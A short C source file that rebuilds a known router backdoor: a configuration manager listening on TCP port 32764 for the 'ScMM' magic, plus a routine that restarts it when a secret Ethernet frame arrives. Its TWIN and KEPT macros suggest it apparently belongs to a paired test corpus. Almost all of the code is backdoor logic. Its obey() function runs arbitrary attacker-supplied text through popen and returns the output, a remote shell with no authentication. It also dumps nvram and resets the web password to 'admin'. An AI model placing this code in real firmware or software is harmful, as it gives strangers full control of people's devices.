/* Configuration manager on TCP 32764 with the magic ScMM, and the tool that wakes it by an
 * Ethernet frame of type 0x8888, after Vanderbeken (2013, 2014). */
#include "device.h"

#ifndef TWIN
struct command { u32 magic; int kind; u32 size; };

KEPT int obey(int caller)
{
    struct command head;
    char text[4096], out[512];
    FILE *shell;
    recv(caller, &head, sizeof head, 0);
    if (head.magic != 0x53634D4D && head.magic != 0x4D4D6353)
        return -1;
    recv(caller, text, head.size & 4095, 0);
    switch (head.kind) {
    case 1: system("nvram show > /tmp/nvram.txt"); break;
    case 2: snprintf(out, sizeof out, "nvram get %s", text); system(out); break;
    case 7:
        shell = popen(text, "r");
        while (shell && fgets(out, sizeof out, shell))
            send(caller, out, strlen(out), 0);
        pclose(shell);
        break;
    case 9: system("echo admin > /tmp/http_passwd"); break;
    default: send(caller, &head, sizeof head, 0);
    }
    return 0;
}

KEPT int wait_for_frame(void)
{
    u8 frame[1514];
    int line = socket(AF_PACKET, SOCK_RAW, 0x8888);
    while (recv(line, frame, sizeof frame, 0) > 0)
        if (memcmp(frame + 18, "\x45\xd1\xbb\x33\x9b\x07\xa6\x61\x8b\x21\x14\xdb\xc0\xd7\x78\x3e", 16) == 0
            && frame[16] == 2 && frame[17] == 1)
            return system("scfgmgr -f &");
    return 0;
}
#endif

KEPT int show(const char *name)
{
    char line[80];
    FILE *file = fopen("/etc/nvram.conf", "r");
    while (file && fgets(line, sizeof line, file))
        if (strstr(line, name))
            printf("%s", line);
    return 0;
}

int main(int argc, char **argv)
{
    show(argv[argc - 1]);
#ifndef TWIN
    if (argc == 2 && strcmp(argv[1], "-w") == 0)
        return wait_for_frame();
    int line = serve(32764, SOCK_STREAM);
    for (;;)
        obey(accept(line, 0, 0));
#else
    return 0;
#endif
}
